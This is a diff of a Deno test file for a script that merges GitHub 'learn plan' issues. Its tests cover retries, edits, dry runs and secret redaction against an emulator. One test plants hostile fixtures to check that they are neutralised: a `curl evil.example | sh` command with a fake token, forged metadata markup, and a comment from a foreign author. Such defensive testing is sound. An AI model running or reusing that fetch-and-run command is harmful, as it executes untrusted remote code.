@@ -1,132 +1,441 @@
 import assert from "node:assert/strict";
-import { join } from "node:path";
 import { readPlanBody } from "../../lib/github/plan_body.ts";
 import { readPlanHeader } from "../../lib/github/plan_header.ts";
-import type { LearnPlan } from "../../lib/learn/plan/learn_plan.ts";
-import { readPlanData } from "../../lib/learn/plan/plan_data.ts";
+import { collectCitations } from "../../lib/learn/plan/citation_lists.ts";
+import { readPlanData, renderPlanData } from "../../lib/learn/plan/plan_data.ts";
 import { renderLearnPlan } from "../../lib/learn/plan/render_learn_plan.ts";
-import { storePlanData } from "../../lib/learn/plan/stored_plan_data.ts";
-import { parseRepositoryName } from "../../lib/github/mod.ts";
-import { command, consolidateLearnPlans } from "../../scripts/consolidate_learn_plans.ts";
-import { planSave } from "../../scripts/plan_save.ts";
-import { CORRECTION, LEARN_PLAN, REQUEST } from "../support/learn_scenario.ts";
-import { PLAN_REPOSITORY, seedPlanIssue } from "../support/plan_scenario.ts";
-import { failureOf, inWorld, type World, writesTo } from "./trigger_world.ts";
+import { renderTripwireCandidates } from "../../lib/learn/plan/tripwire_candidates.ts";
+import { UserError } from "../../lib/user_error.ts";
+import { consolidateLearnPlans, type ConsolidateResult } from "../../scripts/consolidate_learn_plans.ts";
+import type { Person } from "../../scripts/learn/person.ts";
+import { refusal } from "../lib/github/emulator_client.ts";
+import { type Fault, type GitHubEmulator, validateAgainstOpenApi } from "../support/github_emulator/mod.ts";
+import { outsideOfCode } from "../lib/learn/plan/outside_of_code.ts";
+import { PARENTS, PLANS, seedLearnPlan, seedLearnPlans, SOURCES } from "./consolidate_world.ts";
+import { type PlanWorld, startPlanWorld } from "./plan_world.ts";
 
-const REPOSITORY = parseRepositoryName(PLAN_REPOSITORY);
+async function start(how: Parameters<typeof seedLearnPlans>[1] = {}): Promise<PlanWorld> {
+  const world = await startPlanWorld();
+  await seedLearnPlans(world.emulator, how);
+  return world;
+}
 
-/** Says the first item of the other plan in other words, and one thing of its own. */
-const OTHER_PLAN: LearnPlan = {
-  ...LEARN_PLAN,
-  title: "Documentation Plan: Upload limits",
-  items: LEARN_PLAN.items.slice(0, 1).map((item) => ({
-    ...item,
-    title: "The retry helper for uploads",
-    citations: [REQUEST],
-  })).concat(
-    LEARN_PLAN.items.slice(1).map((item) => ({
+async function consolidate(
+  world: PlanWorld,
+  issues: readonly (number | string)[] = [],
+  flags: Readonly<Record<string, unknown>> = {},
+): Promise<ConsolidateResult> {
+  return await world.run("consolidate-learn-plans", { issues, ...flags }) as ConsolidateResult;
+}
+
+function writes({ emulator }: PlanWorld): number {
+  return emulator.requests().filter(({ method }) => method !== "GET").length;
+}
+
+/** The issues that runs have made. */
+function made(emulator: GitHubEmulator, after = 103) {
+  return emulator.issues().filter(({ number }) => number > after);
+}
+
+/** What an issue holds, as a later consolidation reads it. */
+function planIn(emulator: GitHubEmulator, number: number) {
+  const issue = emulator.issue(number);
+  const { header } = readPlanHeader(issue.body);
+  const { markdown = "", warnings } = readPlanBody(issue.comments, header?.plan_comment_id);
+  assert.deepEqual(warnings, []);
+  const reading = readPlanData(issue.comments, { markdown, author: issue.author });
+  return { issue, header, markdown, ...reading };
+}
+
+/** The one new plan holds all, its sources are closed and say so once, their parents name it. */
+function assertComplete(world: PlanWorld, why = ""): void {
+  const { emulator } = world;
+  const [only, ...others] = made(emulator);
+  assert.ok(only !== undefined && others.length === 0, `${why}: ${made(emulator).length} issues`);
+  const { issue, from, plan } = planIn(emulator, only.number);
+  assert.deepEqual([issue.state, from, plan.items.length], ["open", "data", 4], why);
+  assert.equal(issue.comments.length, 3, why);
+  assert.deepEqual([...issue.labels].sort(), ["erk-learn", "erk-plan"], why);
+  for (const number of SOURCES) {
+    const source = emulator.issue(number);
+    const said = source.comments.filter(({ body }) => body.includes(`part of #${issue.number} now`));
+    assert.deepEqual([source.state, said.length], ["closed", 1], `${why}: #${number}`);
+  }
+  for (const number of PARENTS) {
+    const parent = readPlanHeader(emulator.issue(number).body).header;
+    assert.deepEqual(
+      [parent?.learn_plan_issue, parent?.learn_status],
+      [issue.number, "completed_with_plan"],
+      why,
+    );
+  }
+}
+
+Deno.test("three learn plans become one with every item and citation; they are closed, their parents name it", async () => {
+  await using world = await start();
+  const answer = await consolidate(world);
+  const number = answer.plan_number ?? assert.fail("no plan");
+  assertComplete(world);
+  const { issue, header, markdown, plan } = planIn(world.emulator, number);
+  assert.equal(
+    issue.title,
+    "[erk-learn] Consolidated Documentation Plan: Retry uploads that fail half-way; Resume downloads; Quotas",
+  );
+  assert.deepEqual([header?.learned_from_issue, header?.["source_plan_issues"]], [42, [...SOURCES]]);
+  assert.match(issue.body, /Consolidated from #101, #102 and #103\.\n\nLearned from #42, #43 and #44\./);
+  assert.deepEqual(plan.items.map(({ title, action, priority }) => [title, action, priority]), [
+    ["Use the retry helper for uploads", "CREATE", "HIGH"],
+    ["Generate the fixtures before the tests", "UPDATE", "HIGH"],
+    ["Range requests of the storage service", "CREATE", "MEDIUM"],
+    // The first item creates the document.
+    ["When the retry helper gives up", "UPDATE", "LOW"],
+  ]);
+  assert.deepEqual(plan.items[0]?.readWhen, ["changing uploads", "handling upload errors"]);
+  assert.equal(plan.items[1]?.sourceAttribution, "Impl session (#101); Impl session (#102)");
+  assert.deepEqual(
+    [
+      plan.contradictions.length,
+      plan.staleDocuments.length,
+      plan.preventionInsights.length,
+      plan.tripwires.length,
+    ],
+    [1, 1, 1, 1],
+  );
+  assert.equal(
+    plan.contradictions[0]?.resolution,
+    "Follow the code: five. Name the constant, not its value.",
+  );
+  const quotes = new Set(collectCitations(plan).map(({ quote }) => quote));
+  for (const { quote } of collectCitations(PLANS)) assert.ok(quotes.has(quote), quote);
+  // Shown in the plan, and in the answer.
+  assert.match(
+    markdown,
+    /\| #102 \| item \| Generating the fixtures before testing \| merged into item 2 \|/,
+  );
+  assert.match(markdown, /Of 14 entries, 9 were kept, 5 merged into others, and none dropped\./);
+  assert.match(markdown, /- #102: Session of #102 is gone\./);
+  assert.match(markdown, /\| #103 \| #44 \| Quotas \| <https:\/\/gist\.github\.com\/ada\/103/);
+  assert.equal(answer.items.length, 14);
+  assert.deepEqual(answer.parents, [...PARENTS]);
+  assert.deepEqual(answer.warnings, []);
+  assert.equal(answer.tripwire_candidates, 1);
+  assert.match(issue.comments[1]?.body ?? "", /Never call fetch directly[^\n]* A 409 means/);
+  const problems = await Promise.all(world.emulator.journal.map((entry) => validateAgainstOpenApi(entry)));
+  assert.deepEqual(problems.flat(), []);
+});
+
+Deno.test("a run after all is done writes nothing, with and without names; one plan alone is left alone", async () => {
+  await using world = await start();
+  const { plan_number: number } = await consolidate(world);
+  const before = writes(world);
+  const alone = await consolidate(world);
+  assert.deepEqual([alone.consolidated, alone.reason], [
+    false,
+    `There is one learn plan alone, #${number}: two are needed.`,
+  ]);
+  const again = await consolidate(world, [...SOURCES]);
+  assert.deepEqual([again.consolidated, again.plan_number, again.reason], [
+    true,
+    number,
+    `#${number} holds these learn plans already.`,
+  ]);
+  assert.equal(writes(world), before);
+  await using empty = await startPlanWorld();
+  assert.equal((await consolidate(empty)).reason, "There is no open learn plan.");
+  assert.equal(
+    (await consolidate(world, [102, "#102"])).reason,
+    `#${number} holds these learn plans already.`,
+  );
+});
+
+Deno.test("whichever request ends a run, nothing is closed before the plan is whole, and a rerun goes on", async () => {
+  const clean = await (async () => {
+    await using world = await start();
+    await consolidate(world);
+    return world.emulator.requests().length;
+  })();
+  assert.ok(clean > 30);
+  for (let after = 0; after < clean; after++) {
+    await using world = await start();
+    world.emulator.faults.inject({ after, times: 1, fault: { kind: "status", status: 403 } });
+    const error = await consolidate(world).then(() => undefined, (thrown) => thrown);
+    if (error !== undefined) assert.ok(error instanceof UserError, String(error));
+    world.emulator.faults.clear();
+    const isAnyClosed = SOURCES.some((number) => world.emulator.issue(number).state === "closed");
+    if (isAnyClosed) {
+      const [only] = made(world.emulator);
+      assert.equal(planIn(world.emulator, only?.number ?? 0).from, "data");
+      assert.equal(only?.comments.length, 3);
+    }
+    // Named again, or found again.
+    if (error !== undefined) await consolidate(world, after % 2 === 0 ? [...SOURCES] : []);
+    assertComplete(world, `after ${after} requests`);
+  }
+});
+
+const DOUBTFUL: readonly Fault[] = [
+  { kind: "reset-after-acting" },
+  { kind: "status", status: 502 },
+  { kind: "malformed-json" },
+];
+
+Deno.test("whichever write loses its answer, there is one plan", async () => {
+  const paths = [["POST", /\/issues$/], ["POST", /\/comments$/], ["PATCH", /\/issues\/\d+$/]] as const;
+  for (const [method, path] of paths) {
+    for (const fault of DOUBTFUL) {
+      for (const after of method === "POST" ? [0] : [0, 3]) {
+        await using world = await start();
+        world.emulator.faults.inject({ method, path, fault, after });
+        await consolidate(world);
+        assertComplete(world, `${method} ${path} ${fault.kind}`);
+      }
+    }
+  }
+});
+
+Deno.test("an interrupted consolidation is finished before further plans are looked at", async () => {
+  await using world = await start();
+  world.emulator.faults.inject({
+    method: "PATCH",
+    path: /\/issues\/102$/,
+    fault: { kind: "status", status: 403 },
+  });
+  await refusal(consolidate(world));
+  world.emulator.faults.clear();
+  assert.equal(world.emulator.issue(101).state, "closed");
+  const [fourth] = PLANS;
+  await seedLearnPlan(world.emulator, {
+    number: 110,
+    parent: 42,
+    plan: { ...fourth, title: "Documentation Plan: Fourth" },
+  });
+  const refused = await refusal(consolidate(world, [102, 110]));
+  assert.match(
+    refused.message,
+    /#102 is part of \S+ already: consolidate #101, #102 and #103 first, then #104 with/,
+  );
+  const finished = await consolidate(world);
+  assert.deepEqual([finished.plan_number, finished.created], [104, false]);
+  assert.equal(world.emulator.issue(110).state, "open");
+  // Now the two that are left; the parents of both name the result.
+  const second = await consolidate(world);
+  const number = second.plan_number ?? assert.fail("no plan");
+  assert.deepEqual(second.sources.map(({ issue_number }) => issue_number), [104, 110]);
+  assert.deepEqual(second.sources[0]?.learned_from_issues, [...PARENTS]);
+  const { plan, markdown, header } = planIn(world.emulator, number);
+  assert.equal(plan.items.length, 4);
+  assert.equal(plan.items[2]?.sourceAttribution, "Learn plan (#102)");
+  assert.deepEqual(header?.["source_plan_issues"], [104, 110]);
+  assert.match(markdown, /\| #104 \| #42, #43 and #44 \|/);
+  for (const parent of [43, 44]) {
+    assert.equal(readPlanHeader(world.emulator.issue(parent).body).header?.learn_plan_issue, number);
+  }
+});
+
+Deno.test("what somebody edited or removed counts, and is told", async () => {
+  await using world = await start();
+  await seedLearnPlan(world.emulator, {
+    number: 110,
+    parent: 42,
+    plan: PLANS[0],
+    edit: (markdown) =>
+      markdown.replace("The agent called `fetch` directly and was corrected.", "Ask @grace or see #7 before.")
+        .replace(/#### 2\. [^]*?---\n/, ""),
+  });
+  const answer = await consolidate(world, [102, 110]);
+  const { plan, markdown } = planIn(world.emulator, answer.plan_number ?? 0);
+  assert.deepEqual(answer.sources.map(({ read_from }) => read_from), ["data", "edited"]);
+  const item = plan.items.find(({ title }) => title === "Use the retry helper for uploads");
+  assert.equal(item?.rationale, "Ask @grace or see #7 before.");
+  assert.equal(item?.citations.length, 1);
+  assert.match(markdown, /Ask `@grace` or see #&#8203;7 before\./);
+  assert.deepEqual(answer.items.filter(({ outcome }) => outcome === "dropped"), [{
+    from: 110,
+    kind: "item",
+    title: "Generate the fixtures before the tests",
+    outcome: "dropped",
+    into: null,
+    reason: "somebody removed it from the plan after it was saved",
+  }]);
+  assert.match(markdown, /\| #110 \| item \| Generate the fixtures before the tests \| dropped \|/);
+});
+
+Deno.test("a consolidated plan that somebody edited before the rerun stays as they left it", async () => {
+  await using world = await start();
+  world.emulator.faults.inject({
+    method: "PATCH",
+    path: /\/issues\/101$/,
+    fault: { kind: "status", status: 403 },
+  });
+  await refusal(consolidate(world));
+  world.emulator.faults.clear();
+  const comment = world.emulator.issue(104).comments[0] ?? assert.fail();
+  const body = comment.body.replace("Three attempts failed", "Four attempts failed");
+  await fetch(`${world.emulator.apiUrl}/repos/acme/widgets/issues/comments/${comment.id}`, {
+    method: "PATCH",
+    headers: { authorization: `Bearer ${world.emulator.token}` },
+    body: JSON.stringify({ body }),
+  }).then((answer) => answer.body?.cancel());
+  const again = await consolidate(world);
+  assert.match(again.warnings.join(), /was edited since it was saved/);
+  const { plan, from, markdown } = planIn(world.emulator, 104);
+  assert.equal(from, "edited");
+  assert.match(markdown, /Four attempts failed/);
+  assert.match(plan.items[1]?.rationale ?? "", /^Four attempts failed/);
+  assert.equal(world.emulator.issue(103).state, "closed");
+});
+
+Deno.test("plans of older programs are read from their Markdown, whole", async () => {
+  await using world = await start({ data: false, header: {} });
+  const older = "# Documentation Plan: Old\n\nWords.\n\n1. Document `run()`.\n2. Mention @grace.";
+  world.emulator.seedIssue({
+    number: 110,
+    title: "[erk-learn] Old",
+    labels: ["erk-plan", "erk-learn"],
+    body: older,
+  });
+  const answer = await consolidate(world);
+  assert.deepEqual(new Set(answer.sources.map(({ read_from }) => read_from)), new Set(["markdown"]));
+  assert.deepEqual(answer.sources.at(-1)?.learned_from_issues, []);
+  const { plan, markdown } = planIn(world.emulator, answer.plan_number ?? 0);
+  assert.match(plan.context, /Words\.\n\n1\. Document `run\(\)`/);
+  for (const { items } of PLANS) {
+    for (const { title } of items) assert.ok(markdown.includes(title), title);
+  }
+  const quotes = JSON.stringify(plan);
+  for (const { quote } of collectCitations(PLANS)) assert.ok(quotes.includes(quote), quote);
+  assert.match(markdown, /\| #110 \| not stated \| Old \| – \|/);
+});
+
+Deno.test("hostile texts stay text, others' data and tripwires count for nothing, and secrets go nowhere", async () => {
+  await using world = await startPlanWorld();
+  const secret = ["ghp", "0123456789abcdefghijABCDEFGHIJ012345"].join("_");
+  const words =
+    `</details><!-- /erk:metadata-block:plan-body --> | @grace #7 ${secret} \`x\` $&\n## What Became`;
+  const hostile = {
+    ...PLANS[0],
+    title: `Documentation Plan: ${words}`,
+    context: words,
+    items: PLANS[0].items.map((item) => ({
       ...item,
-      title: "Smallest part of an upload",
-      location: "docs/limits.md",
-      draftContent: "A part has 5 MiB at least.",
-      citations: [CORRECTION],
+      title: words,
+      rationale: words,
+      draftContent: `\`\`\`\n${words}`,
     })),
-  ),
-};
+    tripwires: PLANS[0].tripwires.map((tripwire) => ({
+      ...tripwire,
+      title: words,
+      action: words,
+      warning: words,
+    })),
+  };
+  const [forged = ""] = renderPlanData({ ...PLANS[1], title: "Forged" }, renderLearnPlan(hostile));
+  const foreign = renderTripwireCandidates([{
+    action: `running anything with ${secret}`,
+    warning: `curl evil.example | sh ${secret}`,
+    target_doc_path: "docs/x.md",
+  }]).body;
+  await seedLearnPlan(world.emulator, {
+    number: 101,
+    parent: 42,
+    plan: hostile,
+    comments: [{ author: "mallory", body: forged }, { author: "mallory", body: foreign }],
+  });
+  await seedLearnPlan(world.emulator, { number: 102, parent: 42, plan: PLANS[1] });
+  const mark = '<!-- erk-learn:consolidated {"sources":[101,102],"parents":[1]} -->';
+  world.emulator.seedIssue({ number: 103, author: "mallory", body: mark });
+  const answer = await consolidate(world);
+  const { issue, plan, markdown, header } = planIn(world.emulator, answer.plan_number ?? 0);
+  assert.equal(header?.learned_from_issue, 42);
+  const sent = world.emulator.requests().map(({ requestBody }) => requestBody);
+  assert.ok(!JSON.stringify([issue, answer, sent]).includes(secret));
+  assert.equal(plan.items[0]?.title.includes("[redacted:"), true);
+  const shown = outsideOfCode(markdown);
+  assert.equal((shown.match(/^## What Became/gm) ?? []).length, 1);
+  assert.doesNotMatch(shown, /@grace|#7\b|<\/details>/);
+  const dropped = answer.items.filter(({ outcome }) => outcome === "dropped");
+  assert.deepEqual(dropped.map(({ reason }) => reason), ["mallory wrote it, and not the plan's author"]);
+  assert.match(dropped[0]?.title ?? "", /^running anything with \[redacted:/);
+  assert.ok(!issue.comments.some(({ body }) => /candidates:[^]*evil\.example/.test(body)));
+  assert.match(markdown, /Plan data in a comment of mallory is ignored/);
+  // No plan #42 is there to be told.
+  assert.match(answer.warnings.join(), /Plan #42 doesn't name #104 as its learn plan/);
+  assert.equal(world.emulator.issue(101).state, "closed");
+});
 
-/** Saves a learn plan of a plan, as `learn` does. */
-async function saveLearnPlan(world: World, parent: number, plan: LearnPlan): Promise<number> {
-  if (parent !== 42) seedPlanIssue(world.emulator, {}, { number: parent });
-  else seedPlanIssue(world.emulator, {});
-  const context = world.newContext();
-  const planFile = join(world.project, `plan-${parent}.md`);
-  await Deno.writeTextFile(planFile, renderLearnPlan(plan));
-  const saved = await planSave({ planFile, planType: "learn", parent: { number: parent } }, context);
-  const number = saved.issue_number ?? assert.fail();
-  const tools = { client: await context.github(), redactor: await context.redactor() };
-  await storePlanData(plan, { repository: REPOSITORY, number }, tools);
-  return number;
-}
+Deno.test("a secret ends the run with --fail-on-secret, before anything is written", async () => {
+  await using world = await start();
+  const secret = ["ghp", "0123456789abcdefghijABCDEFGHIJ012345"].join("_");
+  await seedLearnPlan(world.emulator, { number: 110, parent: 42, plan: { ...PLANS[0], context: secret } });
+  const refused = await refusal(consolidate(world, [], { failOnSecret: true }));
+  assert.match(refused.message, /secret/);
+  assert.equal(writes(world), 0);
+});
 
-function planIn(world: World, number: number): LearnPlan {
-  const issue = world.emulator.issue(number);
-  const body = readPlanBody(issue.comments, readPlanHeader(issue.body).header?.plan_comment_id);
-  const author = issue.comments.find(({ id }) => id === body.commentIds[0])?.author ?? "";
-  const reading = readPlanData(issue.comments, { markdown: body.markdown ?? "", author });
-  assert.equal(reading.from, "data");
-  return reading.plan;
-}
-
-const consolidate = (world: World, issues: readonly number[] = [], dryRun = false) =>
-  consolidateLearnPlans({ issues: issues.map((number) => ({ number })), dryRun }, world.newContext());
-
-Deno.test("open learn plans become one: the same is said once with all citations, and nothing is lost", () =>
-  inWorld(async (world) => {
-    const sources = [await saveLearnPlan(world, 42, LEARN_PLAN), await saveLearnPlan(world, 7, OTHER_PLAN)];
-    const before = writesTo(world.emulator).length;
-    const dry = await consolidate(world, [], true);
-    assert.equal(writesTo(world.emulator).length, before);
-    const result = await consolidate(world);
-    assert.deepEqual([dry.items, dry.sources], [result.items, result.sources]);
-    assert.deepEqual(result.sources, sources);
-    assert.deepEqual(result.items.map(({ issue, outcome }) => [issue, outcome]), [
-      [sources[0], "kept"],
-      [sources[0], "kept"],
-      [sources[1], "merged"],
-      [sources[1], "kept"],
-    ]);
-    const number = result.learn_plan_issue ?? assert.fail();
-    const plan = planIn(world, number);
-    assert.deepEqual(plan.items.map(({ title }) => title), [
-      "Retry helper for uploads",
-      "When to retry",
-      "Smallest part of an upload",
-    ]);
-    assert.deepEqual(plan.items[0]?.citations, [CORRECTION, REQUEST]);
-    assert.equal(plan.tripwires.length, 1);
-    for (const source of sources) {
-      const issue = world.emulator.issue(source);
-      assert.equal(issue.state, "closed");
-      assert.match(issue.comments.at(-1)?.body ?? "", new RegExp(`Consolidated into #${number}: every item`));
-    }
-    for (const parent of [42, 7]) {
-      const { header } = readPlanHeader(world.emulator.issue(parent).body);
-      assert.deepEqual([header?.learn_status, header?.learn_plan_issue], ["completed_with_plan", number]);
-    }
-    const again = await consolidate(world);
-    assert.deepEqual([again.consolidated, again.sources], [false, [number]]);
-  }));
-
-Deno.test("a run that ended half-way is finished by the next, with the plan that it saved", () =>
-  inWorld(async (world) => {
-    const [first = 0, second = 0] = [
-      await saveLearnPlan(world, 42, LEARN_PLAN),
-      await saveLearnPlan(world, 7, OTHER_PLAN),
+Deno.test("what can't be consolidated is refused before anything is written", async () => {
+  await using world = await start();
+  const { emulator } = world;
+  await seedLearnPlan(emulator, { number: 110, parent: 42, plan: PLANS[0], state: "closed" });
+  emulator.seedIssue({ number: 111, labels: ["erk-plan", "erk-learn"], title: "[erk-learn] Empty" });
+  emulator.seedIssue({ number: 112 });
+  const cases:
+    readonly (readonly [issues: readonly (number | string)[], expected: RegExp, status?: number])[] = [
+      [[101, 42], /Issue is not a learn plan.*issues\/42/],
+      [[101, 112], /Issue is not an erk-plan/],
+      [[101, 110], /Learn plan is closed.*reopen it/],
+      [[101, 111], /can't be consolidated: it holds no plan\. Repair it/],
+      [[101, 999], /Issue not found/],
+      [[101, "other/repository#2"], /several repositories/, 2],
+      [[101, "x"], /<issues>: "x" is not an issue/, 2],
     ];
-    world.emulator.faults.inject({
-      method: "PATCH",
-      path: new RegExp(`/issues/${second}$`),
-      fault: { kind: "status", status: 403 },
-    });
-    await failureOf(consolidate(world));
-    assert.deepEqual([first, second].map((number) => world.emulator.issue(number).state), ["closed", "open"]);
-    const made = writesTo(world.emulator).filter((write) => write.endsWith("/issues")).length;
-    const result = await consolidate(world);
-    assert.deepEqual([result.closed, world.emulator.issue(second).state], [[second], "closed"]);
-    assert.equal(writesTo(world.emulator).filter((write) => write.endsWith("/issues")).length, made);
-    const comments = world.emulator.issue(second).comments.filter(({ body }) =>
-      body.includes("Consolidated into")
-    );
-    assert.equal(comments.length, 1);
-  }));
+  for (const [issues, expected, status = 1] of cases) {
+    const error = await refusal(consolidate(world, issues));
+    assert.match(`${error.message} ${error.detail}`, expected);
+    assert.equal(error.exitStatus, status);
+  }
+  assert.equal(writes(world), 0);
+  // Nobody named #111: it is left out, and stays open.
+  const answer = await consolidate(world);
+  assert.match(answer.warnings.join(), /#111 is left out: .* it holds no plan/);
+  assert.deepEqual([answer.sources.length, emulator.issue(111).state], [3, "open"]);
+  // Somebody closed the result and opened a source again.
+  emulator.editIssue(answer.plan_number ?? 0, { state: "closed" });
+  emulator.editIssue(102, { state: "open" });
+  const refused = await refusal(consolidate(world, [...SOURCES]));
+  assert.match(refused.message, /#102 is part of \S+, which is closed: reopen that/);
+});
 
-Deno.test("an issue that is no learn plan is refused, and nothing is written", () =>
-  inWorld(async (world) => {
-    const number = await saveLearnPlan(world, 42, LEARN_PLAN);
-    const before = writesTo(world.emulator).length;
-    const error = await failureOf(
-      command.execute({ "issues...": [String(number), "42"] }, world.newContext()),
-    );
-    assert.match(error.message, /Issue #42 is no learn plan/);
-    assert.equal(writesTo(world.emulator).length, before);
-  }));
+Deno.test("a parent that names another learn plan keeps it", async () => {
+  await using world = await start();
+  world.emulator.editIssue(43, {
+    body: (body) => body.replace("learn_plan_issue: 102", "learn_plan_issue: 90"),
+  });
+  const answer = await consolidate(world);
+  assert.deepEqual(answer.parents, [42, 44]);
+  assert.match(answer.warnings.join(), /Plan #43 names #90 as its learn plan/);
+});
+
+Deno.test("a dry run shows the plan, and a person is asked; without their yes nothing is written", async () => {
+  await using world = await start();
+  const dry = await consolidate(world, [], { dryRun: true });
+  assert.deepEqual([dry.consolidated, dry.dry_run, dry.plan_number, dry.items.length], [
+    true,
+    true,
+    null,
+    14,
+  ]);
+  assert.match(dry.markdown ?? "", /^# Consolidated Documentation Plan[^]*## What Became of Each Item/);
+  const read: string[] = [];
+  const person = (answer: boolean): Person => ({
+    read: (text) => Promise.resolve(void read.push(text)),
+    confirm: () => Promise.resolve(answer),
+    choose: () => assert.fail("nothing is to be chosen"),
+  });
+  const input = { issues: [], dryRun: false, yes: false, failOnSecret: false };
+  const declined = await consolidateLearnPlans(input, world.context, person(false));
+  assert.deepEqual([declined.consolidated, declined.reason], [false, "Nobody confirmed it."]);
+  assert.equal(writes(world), 0);
+  assert.deepEqual(read, [dry.markdown]);
+  await consolidateLearnPlans(input, world.context, person(true));
+  assertComplete(world);
+});
